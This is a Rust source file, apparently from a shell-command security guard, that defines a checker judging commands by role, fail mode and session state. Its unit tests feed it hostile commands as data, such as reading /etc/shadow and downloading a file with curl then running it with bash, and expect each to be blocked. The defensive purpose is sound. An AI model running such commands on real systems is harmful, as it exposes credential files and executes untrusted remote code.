//! The guard with the settings in force, for many commands.

use aegish_guard::{
    Action, Decision, FailMode, Machine, NoMachine, OsMachine, Request, Role, Session,
    Surroundings, TextForm, UserRule, check_in,
};

/// The machine on which the commands would run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MachineView {
    /// The one of this process: files are read to judge.
    This,
    /// Another one: nothing is known about its files.
    Other,
}

impl MachineView {
    fn machine(self) -> &'static dyn Machine {
        match self {
            Self::This => &OsMachine,
            Self::Other => &NoMachine,
        }
    }
}

/// Everything besides the command that a verdict depends on.
#[derive(Debug, Clone)]
pub struct Checker {
    /// The role of commands that name none.
    pub role: Role,
    /// What becomes of verdicts that are left open.
    pub fail_mode: FailMode,
    /// The user rules in force. Rules that one command uses up are not among them: nothing runs here.
    pub user_rules: Vec<UserRule>,
    /// Directory, home and variables.
    pub surroundings: Surroundings,
    /// Where the commands would run.
    pub machine: MachineView,
}

/// A command or script, where it would run and for whom.
#[derive(Debug, Clone, Copy)]
pub struct CheckInput<'a> {
    /// The text.
    pub text: &'a str,
    /// The directory; relative ones start from that of the server.
    pub cwd: Option<&'a str>,
    /// The role.
    pub role: Option<Role>,
    /// What the text is.
    pub form: TextForm,
}

impl<'a> CheckInput<'a> {
    /// A command line.
    #[must_use]
    pub fn command(text: &'a str) -> Self {
        Self { text, cwd: None, role: None, form: TextForm::CommandLine }
    }
}

impl Checker {
    /// Judges one text by itself.
    pub fn check(&self, input: &CheckInput<'_>) -> Decision {
        self.judge(&Session::new(), input).0
    }

    /// Judges a command of a session, which is changed unless the command is blocked.
    pub fn check_in(&self, session: &mut Session, input: &CheckInput<'_>) -> Decision {
        let (decision, after) = self.judge(session, input);
        if decision.action() < Action::Block {
            *session = after;
        }
        decision
    }

    /// Judges a command of a session that has run already: what it did counts for the next ones, whatever the verdict.
    pub fn check_ran(&self, session: &mut Session, input: &CheckInput<'_>) -> Decision {
        let (decision, after) = self.judge(session, input);
        *session = after;
        decision
    }

    fn judge(&self, session: &Session, input: &CheckInput<'_>) -> (Decision, Session) {
        let moved = match input.cwd.or(session.cwd()) {
            Some(dir) => Some(self.surroundings.at(dir)),
            None if session.is_lost() => Some(self.surroundings.lost()),
            None => None,
        };
        let mut context =
            moved.as_ref().unwrap_or(&self.surroundings).context(self.machine.machine());
        context.form = input.form;
        if input.form == TextForm::ScriptFile {
            // The parameters of a script are not known.
            context.positional = None;
        }
        let request = Request {
            text: input.text.as_bytes(),
            context: &context,
            // The tighter role counts: a client cannot give itself another one.
            role: input.role.map_or(self.role, |role| tighter(role, self.role)),
            user_rules: &self.user_rules,
        };
        let (decision, after) = check_in(session, &request);
        (decision.settled_by(self.fail_mode), after)
    }
}

fn tighter(one: Role, other: Role) -> Role {
    match (one, other) {
        (Role::Restricted, _) | (_, Role::Restricted) => Role::Restricted,
        (Role::Default, _) | (_, Role::Default) => Role::Default,
        (Role::Sysadmin, Role::Sysadmin) => Role::Sysadmin,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn checker() -> Checker {
        Checker {
            role: Role::Default,
            fail_mode: FailMode::Safe,
            user_rules: Vec::new(),
            surroundings: Surroundings { cwd: "/srv".into(), ..Surroundings::default() },
            machine: MachineView::This,
        }
    }

    #[test]
    fn facts_carry_over_within_a_session_and_not_behind_a_block() {
        let (checker, mut session) = (checker(), Session::new());
        let mut judge =
            |text: &str| checker.check_in(&mut session, &CheckInput::command(text)).action();
        assert_eq!(judge("x=/etc/shadow"), Action::Allow);
        assert_eq!(judge("cat /etc/shadow; x=notes.txt"), Action::Block);
        assert_eq!(judge("cat \"$x\""), Action::Block);
    }

    #[test]
    fn what_ran_although_it_would_have_been_blocked_has_happened() {
        let (checker, mut session) = (checker(), Session::new());
        let mut judge =
            |text: &str| checker.check_ran(&mut session, &CheckInput::command(text)).action();
        assert_eq!(judge("cat /etc/shadow; curl -so x https://example.org/x"), Action::Block);
        assert_eq!(judge("bash x"), Action::Block);
    }

    #[test]
    fn the_files_of_this_machine_say_nothing_about_another_one() {
        let script = std::env::temp_dir().join(format!("aegish-verdict-{}.sh", std::process::id()));
        std::fs::write(&script, "cat /etc/shadow\n").expect("a file");
        let command = format!("bash {}", script.display());
        // What is not known about another machine stays open.
        let open = || Checker { fail_mode: FailMode::Open, ..checker() };
        let here = open().check(&CheckInput::command(&command)).action();
        let elsewhere = Checker { machine: MachineView::Other, ..open() };
        let there = elsewhere.check(&CheckInput::command(&command)).action();
        std::fs::remove_file(&script).expect("the file");
        assert_eq!((here, there < Action::Block), (Action::Block, true));
    }

    #[test]
    fn a_client_cannot_loosen_the_role() {
        let mut checker = checker();
        checker.role = Role::Restricted;
        let command = "systemctl restart nginx";
        let strict = checker.check(&CheckInput::command(command)).action();
        let asked = CheckInput { role: Some(Role::Sysadmin), ..CheckInput::command(command) };
        assert_eq!(checker.check(&asked).action(), strict);
    }
}
